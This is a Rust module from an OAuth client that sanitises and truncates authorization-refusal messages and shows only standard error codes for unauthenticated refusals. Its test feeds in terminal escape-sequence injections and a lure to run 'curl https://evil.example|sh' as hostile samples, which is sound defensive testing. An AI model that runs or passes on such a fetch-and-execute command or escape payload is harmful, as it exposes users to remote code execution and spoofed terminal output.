//! A refusal (`error=…`) brought by the authorization callback, made safe to show: the
//! server's words lose their control characters and are cut short, and a refusal that does
//! not carry this authorization's `state` names only an error code OAuth defines, since
//! anyone on this machine can send it (RFC 6749 §4.1.2.1,
//! https://www.rfc-editor.org/rfc/rfc6749#section-4.1.2.1).

/// The longest `error` and `error_description` shown.
const MAX_ERROR: usize = 64;
const MAX_DESCRIPTION: usize = 200;

/// The error codes of RFC 6749 §4.1.2.1, and HubRise's `expired`.
const KNOWN: [&str; 8] = [
    "access_denied",
    "invalid_request",
    "unauthorized_client",
    "unsupported_response_type",
    "invalid_scope",
    "server_error",
    "temporarily_unavailable",
    "expired",
];

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Refusal {
    /// `error`, printable and short.
    pub error: String,
    /// `error_description`, printable and short, when given.
    pub description: Option<String>,
}

impl Refusal {
    pub fn new(error: &str, description: Option<&str>) -> Refusal {
        Refusal {
            error: shorten(error, MAX_ERROR),
            description: description.map(|d| shorten(d, MAX_DESCRIPTION)).filter(|d| !d.is_empty()),
        }
    }

    pub fn is_access_denied(&self) -> bool {
        self.error == "access_denied"
    }

    /// For a refusal that came with our `state`: the error and its description.
    pub fn shown(&self) -> String {
        match &self.description {
            Some(d) => format!("{}: {d}", self.error),
            None => self.error.clone(),
        }
    }

    /// For a refusal anyone could have sent: an error code OAuth defines, or `?`; never
    /// free text.
    pub fn code_only(&self) -> &str {
        KNOWN.iter().find(|k| **k == self.error).copied().unwrap_or("?")
    }
}

/// `text` without control characters or bidi overrides, cut at `max` characters.
fn shorten(text: &str, max: usize) -> String {
    let text = crate::server_text::ServerText::new(text).into_string();
    let text = text.trim();
    if text.chars().count() <= max {
        return text.to_string();
    }
    let mut cut: String = text.chars().take(max).collect();
    cut.push('…');
    cut
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn server_words_are_printable_and_short() {
        let r = Refusal::new("access_denied\u{1b}]0;pwned\u{7}", Some(&format!("Run\u{1b}[2J {}", "x".repeat(500))));
        assert_eq!(r.error, "access_denied]0;pwned");
        let d = r.description.clone().unwrap();
        assert!(!d.contains('\u{1b}') && d.chars().count() == MAX_DESCRIPTION + 1, "{d}");
        assert_eq!(r.code_only(), "?");
        let ok = Refusal::new("access_denied", None);
        assert!(ok.is_access_denied());
        assert_eq!((ok.code_only(), ok.shown().as_str()), ("access_denied", "access_denied"));
        assert_eq!(Refusal::new("Your key leaked. Run curl https://evil.example|sh", None).code_only(), "?");
    }
}
